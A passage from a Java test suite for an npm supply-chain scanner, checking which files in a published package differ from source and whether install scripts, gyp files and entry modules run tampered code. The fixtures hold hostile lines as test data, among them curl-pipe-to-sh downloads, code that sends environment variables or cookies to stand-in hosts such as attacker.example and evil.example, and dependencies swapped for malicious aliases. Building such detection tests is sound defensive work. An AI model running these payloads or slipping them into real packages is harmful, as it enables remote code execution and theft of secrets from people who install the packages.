        ArtifactReport a = publishAndScan(tree, "4.9.6", with(tree, "lib/gen.js", payload, "lib/conf", payload));
        assertEquals(FileStatus.PHANTOM, row(a, "package/lib/gen.js").status());
        assertEquals(FileStatus.PHANTOM, row(a, "package/lib/conf").status());
        assertTrue(a.verdict() == Verdict.DIVERGENT || a.verdict() == Verdict.HIGH_RISK, a.verdict().toString());
    }

    @Test
    void aWrittenModuleNamedOnlyByItsFileNameInAPathIsNotBuildOutputAndAnUnnamedOneIs() throws Exception {
        String scripts = ",\n  \"scripts\": {\"prepare\": \"node v > version.js && node b > dist/bundle.js\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.4", scripts),
                "index.js", "var vm = require('vm'), fs = require('fs');\n"
                        + "vm.runInThisContext(fs.readFileSync(__dirname + '/version.js', 'utf8'));\n",
                "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "4.9.4", with(tree, "version.js", "var v = 1;\n",
                "dist/bundle.js", "(function(){ var a = 2; })();\n"));
        assertEquals(FileStatus.PHANTOM, row(a, "package/version.js").status());
        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/dist/bundle.js").status());
    }

    @Test
    void aTrackedModuleAPublishScriptRewritesStaysComparedWithTheCommittedOne() throws Exception {
        // qs commits dist/qs.js and rebuilds it at every publish: the committed bundle is the baseline CDN users load
        String scripts = ",\n  \"scripts\": {\"prepublish\": \"npm run dist\","
                + " \"dist\": \"browserify --standalone Qs index.js > dist/qs.js\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.0", scripts),
                "index.js", "module.exports = 1;\n", "dist/qs.js", "(function(){ var a = 1; })();\n");
        ArtifactReport a = publishAndScan(tree, "4.9.0", with(tree, "dist/qs.js",
                "(function(){ var a = 1; fetch('https://attacker.example/?' + document.cookie); })();\n"));
        FileDivergence qs = row(a, "package/dist/qs.js");
        assertEquals(FileStatus.MODIFIED, qs.status());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    @Test
    void aFileWrittenOnlyByAScriptThatDidNotRunAtPublishIsNotExplained() throws Exception {
        // a script publishing does not run (test) and a script only the published manifest declares explain
        // nothing; a stderr log and a command run in another folder write no file of the package
        String src = ",\n  \"scripts\": {\"test\": \"node b > a.js\", \"prepack\": \"node-gyp rebuild 2> c.js;"
                + " cd lib && node d > d.js\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.1", src),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        String payload = "require('child_process').exec('curl -s https://example.invalid | sh');\n";
        ArtifactReport a = publishAndScan(tree, "4.9.1", with(tree, "a.js", payload, "c.js", payload,
                "d.js", payload, "lib/d.js", payload));
        for (String p : List.of("a.js", "c.js", "d.js", "lib/d.js")) {
            assertEquals(FileStatus.PHANTOM, row(a, "package/" + p).status(), p);
            assertTrue(row(a, "package/" + p).highRisk(), p);
        }
        SortedMap<String, byte[]> tree2 = files("package.json", pkgJson("widget", "4.9.2", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport b = publishAndScan(tree2, "4.9.2", with(tree2, "e.js", payload, "package.json",
                pkgJson("widget", "4.9.2", ",\n  \"scripts\": {\"prepare\": \"node b > e.js\"}")));
        assertEquals(FileStatus.PHANTOM, row(b, "package/e.js").status());
        assertEquals(Verdict.HIGH_RISK, b.verdict());
    }

    @Test
    void aLogAnInstallScriptWritesIsNotRunByItButWhatItRunsOrReadsIs() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.0",
                        ",\n  \"scripts\": {\"install\": \"(node-gyp rebuild 2> builderror.log) || (exit 0)\","
                                + " \"postinstall\": \"node setup.js >> setup.log 2>&1; sh < fix.sh\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "binding.gyp", "{'targets': [{'target_name': 'x', 'sources': ['x.cc']}]}\n",
                "setup.js", "module.exports = 0;\n", "fix.sh", "true\n");
        ArtifactReport a = publishAndScan(tree, "4.8.0", with(tree,
                "builderror.log", "gyp info it worked if it ends with ok\ngyp ERR! stack Error: `make` failed: exec\n",
                "setup.log", "done\n", "setup.js", "module.exports = 1;\n", "fix.sh", "curl -s https://example.invalid | sh\n"));
        FileDivergence log = row(a, "package/builderror.log");
        assertEquals(FileStatus.PHANTOM, log.status());
        assertFalse(log.riskFlags().contains(RiskFlag.AUTO_EXEC), log.riskFlags().toString());
        assertFalse(log.highRisk());
        assertFalse(row(a, "package/setup.log").riskFlags().contains(RiskFlag.AUTO_EXEC));
        for (String p : List.of("setup.js", "fix.sh")) {
            FileDivergence f = row(a, "package/" + p);
            assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p);
            assertTrue(f.highRisk(), p);
        }
    }

    @Test
    void whatNodeResolvesForAnInstallScriptAndItsInputRedirectsRunAtInstall() throws Exception {
        // red9 case6: "node scripts/setup" runs scripts/setup.js; -r/--import modules, a folder's package.json main
        // and index file; red9 case4: "node <> scripts/run.js" (sh opens it read-write as node's stdin)
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.1",
                        ",\n  \"scripts\": {\"preinstall\": \"node <> scripts/run.js\","
                                + " \"install\": \"node -r ./hooks/a --import=./hooks/b scripts/setup > setup.log\","
                                + " \"postinstall\": \"node tool && node lib\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "scripts/setup.js", "module.exports = 0;\n", "scripts/run.js", "module.exports = 0;\n",
                "scripts/setup.sh", "true\n", "hooks/a.js", "0;\n", "hooks/b.mjs", "0;\n",
                "tool/package.json", "{\"main\": \"./main\"}\n", "tool/main.js", "0;\n", "lib/index.js", "0;\n");
        String payload = "require('https').get('https://example.invalid/c?d=' + JSON.stringify(process.env));\n";
        ArtifactReport a = publishAndScan(tree, "4.8.1", with(tree, "scripts/setup.js", payload,
                "scripts/run.js", payload, "hooks/a.js", payload, "hooks/b.mjs", payload, "tool/main.js", payload,
                "lib/index.js", payload, "scripts/setup.sh", "curl -s https://example.invalid | sh\n"));
        for (String p : List.of("scripts/setup.js", "scripts/run.js", "hooks/a.js", "hooks/b.mjs", "tool/main.js",
                "lib/index.js")) {
            FileDivergence f = row(a, "package/" + p);
            assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p + " " + f.riskFlags());
            assertTrue(f.highRisk(), p);
        }
        // a file with the name but an extension Node never adds is not what runs
        assertFalse(row(a, "package/scripts/setup.sh").riskFlags().contains(RiskFlag.AUTO_EXEC));
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void whatAnInstallScriptRunsByNameOrAfterACdRunsAtInstallAndIsNeverBuildOutput() throws Exception {
        // red10 case4: "postinstall": "npm run setup"; case4b: "cd scripts && node setup.js"; case4c: the file the
        // install runs is also written by prepare (and gitignored): it runs at install, so it stays compared
        String scripts = ",\n  \"scripts\": {\"postinstall\": \"npm run setup --silent\","
                + " \"setup\": \"node scripts/setup.js\", \"presetup\": \"yarn run fix\","
                + " \"fix\": \"cd tools && node fix.js\", \"postsetup\": \"node gen/run.js\","
                + " \"prepare\": \"node tools/gen.js > gen/run.js\", \"lint\": \"node tools/lint.js\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.2", scripts),
                ".gitignore", "gen/run.js\n", "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "scripts/setup.js", "module.exports = 0;\n", "tools/fix.js", "0;\n", "tools/gen.js", "0;\n",
                "tools/lint.js", "0;\n");
        String payload = "require('https').get('https://example.invalid/c?d=' + JSON.stringify(process.env));\n";
        ArtifactReport a = publishAndScan(tree, "4.8.2", with(tree, "scripts/setup.js", payload,
                "tools/fix.js", payload, "gen/run.js", payload, "tools/lint.js", "1;\n"));
        for (String p : List.of("scripts/setup.js", "tools/fix.js", "gen/run.js")) {
            FileDivergence f = row(a, "package/" + p);
            assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p + " " + f.riskFlags());
            assertTrue(f.status() == FileStatus.MODIFIED || f.status() == FileStatus.PHANTOM, f.toString());
            assertTrue(f.highRisk(), p);
        }
        assertTrue(row(a, "package/scripts/setup.js").detail().isPresent());
        // a script no install script reaches is not run at install
        assertFalse(row(a, "package/tools/lint.js").riskFlags().contains(RiskFlag.AUTO_EXEC));
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aScriptOfAnotherManifestAnInstallScriptRunsByFolderRunsAtInstall() throws Exception {
        // npm --prefix tools run setup, cd hooks && npm run prep: the named script of that folder's package.json runs
        String scripts = ",\n  \"scripts\": {\"postinstall\": \"npm --prefix tools run setup && cd hooks/lib && npm run prep\","
                + " \"setup\": \"node root-setup.js\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.4", scripts),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", "root-setup.js", "0;\n",
                "tools/package.json", "{\"private\": true, \"scripts\": {\"setup\": \"node s.js\", \"lint\": \"node l.js\"}}\n",
                "tools/s.js", "0;\n", "tools/l.js", "0;\n",
                "hooks/package.json", "{\"scripts\": {\"prep\": \"node lib/p.js\"}}\n", "hooks/lib/p.js", "0;\n");
        String payload = "require('fs').appendFileSync(require('os').homedir() + '/.profile', 'x');\n";
        ArtifactReport a = publishAndScan(tree, "4.8.4", with(tree, "tools/s.js", payload, "hooks/lib/p.js", payload,
                "tools/l.js", "1;\n"));
        for (String p : List.of("tools/s.js", "hooks/lib/p.js")) {
            FileDivergence f = row(a, "package/" + p);
            assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p + " " + f.riskFlags());
            assertTrue(f.highRisk(), p);
        }
        assertFalse(row(a, "package/tools/l.js").riskFlags().contains(RiskFlag.AUTO_EXEC));
        assertEquals(Verdict.HIGH_RISK, a.verdict());
        // the folder's manifest itself: a script changed there at publish runs at install
        ArtifactReport b = publishAndScan(tree, "4.8.5", with(tree, "tools/package.json",
                "{\"private\": true, \"scripts\": {\"setup\": \"curl -s https://example.invalid | sh\"}}\n"));
        FileDivergence manifest = row(b, "package/tools/package.json");
        assertTrue(manifest.riskFlags().contains(RiskFlag.AUTO_EXEC), manifest.toString());
        assertEquals(Verdict.HIGH_RISK, b.verdict());
    }

    @Test
    void whatAnInstallScriptRunsBehindOptionsWrappersShellStringsGlobsOrBackquotesRunsAtInstall() throws Exception {
        // red team round 7 (case3, case10, case10b): npm --loglevel silent run X, sh -c '...', env -i ..., a glob word,
        // a template literal given to node -e
        String scripts = ",\n  \"scripts\": {\"postinstall\": \"npm --loglevel silent run setup && sh -c 'npm run fix'"
                + " && node scripts/run?.js && env -i FOO=1 node -e 'require(`./tools/t.js`)'\","
                + " \"setup\": \"node scripts/setup.js\", \"fix\": \"nice -n 5 node tools/fix.js\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.6", scripts),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "scripts/setup.js", "0;\n", "scripts/run1.js", "0;\n", "tools/fix.js", "0;\n", "tools/t.js", "0;\n",
                "tools/lint.js", "0;\n");
        String payload = "require('fs').appendFileSync(require('os').homedir() + '/.profile', 'x');\n";
        ArtifactReport a = publishAndScan(tree, "4.8.6", with(tree, "scripts/setup.js", payload, "scripts/run1.js",
                payload, "tools/fix.js", payload, "tools/t.js", payload, "tools/lint.js", "1;\n"));
        for (String p : List.of("scripts/setup.js", "scripts/run1.js", "tools/fix.js", "tools/t.js")) {
            FileDivergence f = row(a, "package/" + p);
            assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p + " " + f.riskFlags());
            assertTrue(f.highRisk(), p);
        }
        assertFalse(row(a, "package/tools/lint.js").riskFlags().contains(RiskFlag.AUTO_EXEC));
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aScriptAnInstallScriptRunsByNameChangedAtPublishIsAnInstallScript() throws Exception {
        String src = ",\n  \"scripts\": {\"postinstall\": \"npm run setup\", \"setup\": \"node setup.js\","
                + " \"lint\": \"eslint .\"}";
        String pub = ",\n  \"scripts\": {\"postinstall\": \"npm run setup\","
                + " \"setup\": \"curl -s https://example.invalid | sh\", \"lint\": \"eslint .\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.3", src),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", "setup.js", "0;\n");
        ArtifactReport a = publishAndScan(tree, "4.8.3", with(tree, "package.json", pkgJson("widget", "4.8.3", pub)));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, pj.ruleId());
        assertTrue(pj.detail().orElseThrow().contains("changes setup: curl"), pj.detail().orElseThrow());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void scriptsThatDoNotRunOnAConsumersInstallAreAFindingNotHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.0.0", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "4.0.0", with(tree, "package.json", pkgJson("widget", "4.0.0",
                ",\n  \"scripts\": {\"prepare\": \"node build.js\", \"prepublishOnly\": \"npm test\", \"postpack\": \"rm x\"}")));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(FileStatus.MODIFIED, pj.status());
        assertEquals(NpmGeneratedFiles.PUBLISHER_SCRIPT, pj.ruleId());
        assertFalse(pj.highRisk());
        assertEquals("adds prepare: node build.js (not run on install); adds postpack: rm x (not run on install); "
                + "adds prepublishOnly: npm test (not run on install)", pj.detail().orElseThrow());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    @Test
    void filesThatBinMainAndExportsLoadAreEntryModulesJudgedByWhatWasAdded() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.1.0",
                        ",\n  \"exports\": {\".\": \"./index.js\", \"./feature\": {\"require\": \"./lib/feature.js\"},"
                                + " \"./plugins/*\": \"./plugins/*.js\", \"./package.json\": \"./package.json\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "lib/feature.js", "exports.f = 1;\n", "plugins/a.js", "exports.a = 1;\n", "notes.js", "// notes\n");
        ArtifactReport a = publishAndScan(tree, "4.1.0", with(tree,
                "cli.js", "require('./index');\nrequire('child_process').execSync('curl -s https://example.invalid | sh');\n",
                "lib/feature.js", "exports.f = 2;\n", "plugins/a.js", "exports.a = 2;\n", "notes.js", "// more notes\n"));
        for (String p : List.of("package/cli.js", "package/lib/feature.js", "package/plugins/a.js")) {
            FileDivergence f = row(a, p);
            assertEquals(FileStatus.MODIFIED, f.status(), p);
            assertTrue(f.riskFlags().contains(RiskFlag.ENTRY_MODULE), p);
            assertFalse(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p);
        }
        // the bin target's added lines spawn a shell; the other entry modules changed a constant
        assertTrue(row(a, "package/cli.js").highRisk());
        assertFalse(row(a, "package/lib/feature.js").highRisk());
        assertFalse(row(a, "package/plugins/a.js").highRisk());
        FileDivergence notes = row(a, "package/notes.js");
        assertEquals(FileStatus.MODIFIED, notes.status());
        assertFalse(notes.riskFlags().contains(RiskFlag.ENTRY_MODULE));
        assertEquals(List.of("package/cli.js"), a.highRiskPaths().stream().sorted().toList());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aPackageJsonListedInExportsIsDataNotAnEntryModule() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.1.1-rc.0",
                        ",\n  \"exports\": {\".\": \"./index.js\", \"./package.json\": \"./package.json\"}"),
                "index.js", "module.exports = 1;\n");
        ArtifactReport a = publishAndScan(tree, "4.1.1-rc.0", with(tree, "index.js", "module.exports = 2;\n"));
        assertFalse(row(a, "package/package.json").riskFlags().contains(RiskFlag.ENTRY_MODULE));
        assertFalse(row(a, "package/package.json").riskFlags().contains(RiskFlag.AUTO_EXEC));
        FileDivergence index = row(a, "package/index.js");
        assertEquals(FileStatus.MODIFIED, index.status());
        assertTrue(index.riskFlags().contains(RiskFlag.ENTRY_MODULE));
        assertFalse(index.highRisk());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    @Test
    void aBindingGypTheSourceLacksRunsOnInstallAndIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.2.0", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        String gyp = "{'targets': [{'target_name': 'x', 'actions': [{'action': ['sh', '-c', 'curl example.invalid | sh']}]}]}\n";
        ArtifactReport a = publishAndScan(tree, "4.2.0", with(tree, "binding.gyp", gyp, "package.json",
                pkgJson("widget", "4.2.0", ",\n  \"scripts\": {\"install\": \"node-gyp rebuild\"}")));
        FileDivergence g = row(a, "package/binding.gyp");
        assertEquals(FileStatus.PHANTOM, g.status());
        assertTrue(g.riskFlags().contains(RiskFlag.AUTO_EXEC));
        assertTrue(g.highRisk());
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, pj.ruleId());
        assertTrue(pj.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aBindingGypIsReadAtInstallWhateverBuilderTheInstallScriptNames() throws Exception {
        // red team round 7 (case16): node-pre-gyp --fallback-to-build runs gyp when no prebuilt binary fits
        String scripts = ",\n  \"scripts\": {\"install\": \"node-pre-gyp install --fallback-to-build\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.3.2", scripts),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "binding.gyp", "{'targets': [{'target_name': 'x', 'sources': ['x.cc']}]}\n");
        ArtifactReport a = publishAndScan(tree, "4.3.2", with(tree, "binding.gyp",
                "{'targets': [{'target_name': 'x', 'sources': ['x.cc', '<!(curl -s https://evil.example/p | sh)']}]}\n"));
        FileDivergence g = row(a, "package/binding.gyp");
        assertTrue(g.riskFlags().contains(RiskFlag.AUTO_EXEC), g.toString());
        assertTrue(g.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void npmsOwnNodeGypInstallScriptIsExplainedWhenTheSourceHasTheBindingGyp() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.3.0", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "binding.gyp", "{'targets': [{'target_name': 'x', 'sources': ['x.cc']}]}\n");
        ArtifactReport a = publishAndScan(tree, "4.3.0", with(tree, "package.json",
                pkgJson("widget", "4.3.0", ",\n  \"scripts\": {\"install\": \"node-gyp rebuild\"},\n  \"gypfile\": true")));
        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_REWRITE, row(a, "package/package.json").ruleId());
        FileDivergence g = row(a, "package/binding.gyp");
        assertEquals(FileStatus.MATCH, g.status());
        assertTrue(g.riskFlags().contains(RiskFlag.AUTO_EXEC));
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void anAddonSourceNodeGypCompilesOnInstallIsCodeAndItsNativeExecIsHighRisk() throws Exception {
        String cc = "#include <node_api.h>\nstatic napi_value Init(napi_env env, napi_value exports) { return exports; }\n"
                + "NAPI_MODULE(NODE_GYP_MODULE_NAME, Init)\n";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.3.1", ""),
                "index.js", "module.exports = require('./build/Release/addon.node');\n",
                "binding.gyp", "{'includes': ['common.gypi'], 'targets': [{'target_name': 'addon', 'sources': "
                        + "['src/addon.cc', 'src/util.cc']}]}\n",
                "common.gypi", "{'variables': {'opt': 1}}\n", "src/addon.cc", cc, "src/util.cc", cc);
        ArtifactReport a = publishAndScan(tree, "4.3.1", with(tree,
                "src/addon.cc", cc.replace("#include <node_api.h>\n", "#include <node_api.h>\n#include <stdio.h>\n"
                        + "__attribute__((constructor)) static void warm(void) { popen(\"curl x | sh\", \"r\"); }\n"),
                "common.gypi", "{'variables': {'opt': 1}, 'actions': [{'action': ['sh', '-c', 'id']}]}\n"));
        FileDivergence addon = row(a, "package/src/addon.cc");
        assertEquals(FileStatus.MODIFIED, addon.status());
        assertTrue(addon.riskFlags().containsAll(Set.of(RiskFlag.CODE, RiskFlag.DYNAMIC_EXEC)), addon.riskFlags().toString());
        assertTrue(addon.highRisk());
        FileDivergence gypi = row(a, "package/common.gypi");
        assertEquals(FileStatus.MODIFIED, gypi.status());
        assertTrue(gypi.riskFlags().contains(RiskFlag.AUTO_EXEC), gypi.riskFlags().toString());
        assertTrue(gypi.highRisk());
        // the unchanged addon source is the source's, flags and all
        FileDivergence util = row(a, "package/src/util.cc");
        assertEquals(FileStatus.MATCH, util.status());
        assertTrue(util.riskFlags().contains(RiskFlag.CODE));
        assertFalse(util.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void anAliasUrlOrGitSpecUnderADeclaredNameIsANewDependency() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.4.0",
                        ",\n  \"dependencies\": {\"left-pad\": \"^1.0.0\", \"@acme/util\": \"workspace:^\", \"chalk\": \"^5.0.0\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "4.4.0", with(tree, "package.json", pkgJson("widget", "4.4.0",
                ",\n  \"dependencies\": {\"left-pad\": \"npm:evil-pad@1.0.0\", \"@acme/util\": "
                        + "\"git+https://example.invalid/util.git\", \"chalk\": \"^5.0.0\"}")));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId());
        assertTrue(pj.riskFlags().contains(RiskFlag.NEW_DEPENDENCY));
        assertTrue(pj.highRisk());
        assertEquals("new dependencies [@acme/util git+https://example.invalid/util.git (source: workspace:^), "
                + "left-pad npm:evil-pad@1.0.0 (source: ^1.0.0)]", pj.detail().orElseThrow());
    }

    @Test
    void aWorkspaceSpecBecomesOnlyTheSiblingsVersionAsPnpmPublishesIt() throws Exception {
        // red team: workspace:^ used to accept any range; pnpm/yarn publish ^VERSION of the sibling at the commit
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.6.0",
                        ",\n  \"dependencies\": {\"@acme/util\": \"workspace:^\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "packages/util/package.json", "{\"name\": \"@acme/util\", \"version\": \"1.0.0\"}\n");
        ArtifactReport honest = publishAndScan(tree, "4.6.0", with(tree, "package.json", pkgJson("widget", "4.6.0",
                ",\n  \"dependencies\": {\"@acme/util\": \"^1.0.0\"}")));
        assertEquals(Verdict.EXPLAINED, honest.verdict(), honest.reason().orElse(""));
    }

    @Test
    void aWorkspaceSpecPublishedAsAnotherVersionIsNotThePublishRewrite() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.7.0",
                        ",\n  \"dependencies\": {\"@acme/util\": \"workspace:^\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "packages/util/package.json", "{\"name\": \"@acme/util\", \"version\": \"1.0.0\"}\n");
        ArtifactReport evil = publishAndScan(tree, "4.7.0", with(tree, "package.json", pkgJson("widget", "4.7.0",
                ",\n  \"dependencies\": {\"@acme/util\": \"9.9.9\"}")));
        FileDivergence pj = row(evil, "package/package.json");
        assertEquals(FileStatus.MODIFIED, pj.status());
        assertEquals(NpmGeneratedFiles.DEPENDENCY_RANGE, pj.ruleId());
        assertTrue(pj.detail().orElseThrow().contains("@acme/util 9.9.9 (source: ^1.0.0)"), pj.detail().orElseThrow());
        assertEquals(Verdict.DIVERGENT, evil.verdict());
    }

    @Test
    void aWorkspacePrefixBeforeAUrlOrAnAliasIsANewDependency() throws Exception {
        // red team: workspace:<spec> used to resolve to the text after the prefix, so a git URL or an npm: alias
        // behind it was explained as the publish rewrite; pnpm/yarn publish a workspace package's version, never those
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.0",
                        ",\n  \"dependencies\": {\"@acme/util\": \"workspace:git+https://example.invalid/util.git#semver:^1.0.0\", "
                                + "\"left-pad\": \"workspace:npm:evil-pad@^1.0.0\", \"chalk\": \"workspace:evil-chalk@^5.0.0\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "packages/util/package.json", "{\"name\": \"@acme/util\", \"version\": \"1.0.0\"}\n");
        ArtifactReport a = publishAndScan(tree, "4.8.0", with(tree, "package.json", pkgJson("widget", "4.8.0",
                ",\n  \"dependencies\": {\"@acme/util\": \"git+https://example.invalid/util.git#semver:^1.0.0\", "
                        + "\"left-pad\": \"npm:evil-pad@^1.0.0\", \"chalk\": \"npm:evil-chalk@^5.0.0\"}")));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId());
        assertTrue(pj.highRisk());
        assertEquals("new dependencies [@acme/util git+https://example.invalid/util.git#semver:^1.0.0 (source: "
                + "workspace:git+https://example.invalid/util.git#semver:^1.0.0), chalk npm:evil-chalk@^5.0.0 (source: "
                + "workspace:evil-chalk@^5.0.0), left-pad npm:evil-pad@^1.0.0 (source: workspace:npm:evil-pad@^1.0.0)]",
                pj.detail().orElseThrow());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void pnpmsWorkspaceRangeAndAliasFormsAreThePublishRewrite() throws Exception {
        // pnpm: workspace:^2.0.0 → ^2.0.0; workspace:NAME@RANGE → npm:NAME@RANGE; workspace:NAME@~ → npm:NAME@~VERSION
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.0",
                        ",\n  \"dependencies\": {\"@acme/util\": \"workspace:^2.0.0\", "
                                + "\"helper\": \"workspace:@acme/helper@^1.0.0\", \"legacy\": \"workspace:@acme/helper@~\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "packages/util/package.json", "{\"name\": \"@acme/util\", \"version\": \"2.1.0\"}\n",
                "packages/helper/package.json", "{\"name\": \"@acme/helper\", \"version\": \"1.3.0\"}\n");
        ArtifactReport a = publishAndScan(tree, "4.9.0", with(tree, "package.json", pkgJson("widget", "4.9.0",
                ",\n  \"dependencies\": {\"@acme/util\": \"^2.0.0\", \"helper\": \"npm:@acme/helper@^1.0.0\", "
                        + "\"legacy\": \"npm:@acme/helper@~1.3.0\"}")));
        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_REWRITE, row(a, "package/package.json").ruleId());
        assertEquals(Verdict.EXPLAINED, a.verdict(), a.reason().orElse(""));
    }

    @Test
    void publishConfigIsAppliedFromTheSourceOnlyNeverFromThePublishedManifest() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.5.0",
                        ",\n  \"publishConfig\": {\"bin\": \"./dist/cli.js\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", ".gitignore", "dist/\n");
        // honest: the source's publishConfig moved bin to dist/ at publish
        ArtifactReport honest = publishAndScan(tree, "4.5.0", with(tree, "dist/cli.js", "require('../index');\n",
                "package.json", "{\"name\":\"widget\",\"version\":\"4.5.0\",\"main\":\"index.js\",\"bin\":{\"widget\":\"dist/cli.js\"},"
                        + "\"repository\":\"github:acme/widget\",\"publishConfig\":{\"bin\":\"./dist/cli.js\"}}"));
        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_REWRITE, row(honest, "package/package.json").ruleId());
        assertEquals(FileStatus.BUILD_OUTPUT, row(honest, "package/dist/cli.js").status());
        assertEquals(Verdict.EXPLAINED, honest.verdict());
    }

    @Test
    void aPublishedManifestsOwnPublishConfigDoesNotExplainItsMain() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.6.0", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "4.6.0", with(tree, "loader.js", "module.exports = require('./index');\n",
                "package.json", "{\"name\":\"widget\",\"version\":\"4.6.0\",\"main\":\"loader.js\",\"bin\":\"./cli.js\","
                        + "\"repository\":\"github:acme/widget\",\"publishConfig\":{\"main\":\"./index.js\"}}"));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, pj.ruleId());
        assertEquals("package.json fields differ: [main]", pj.detail().orElseThrow());
        FileDivergence loader = row(a, "package/loader.js");
        assertEquals(FileStatus.PHANTOM, loader.status());
        assertTrue(loader.riskFlags().contains(RiskFlag.ENTRY_MODULE));
        assertTrue(loader.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @ParameterizedTest
    @ValueSource(strings = {"Makefile cd", "script publish DIR", "publishConfig", "not ignored", "no publish command"})
    void aPackagePublishedFromAnIgnoredBuildFolderHasItsBuiltFilesAsBuildOutputStillScanned(String how) throws Exception {
        // async 2.x-3.x: lib/ compiled by Babel into build/, then "cd build/ && npm publish" (Makefile)
        String config = how.equals("publishConfig") ? ",\n  \"publishConfig\": {\"directory\": \"build\"}"
                : how.equals("script publish DIR") ? ",\n  \"scripts\": {\"release\": \"make build && npm publish --tag next ./build\"}"
                : "";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "5.0.0", config),
                ".gitignore", how.equals("not ignored") ? "node_modules\n" : "node_modules\nbuild\n",
                "lib/index.js", "export default 1;\n", "lib/cli.js", "import x from './index';\n", "README.md", "# widget\n",
                "cli.js", "require('./lib/cli');\n",
                "Makefile", how.equals("Makefile cd") || how.equals("not ignored")
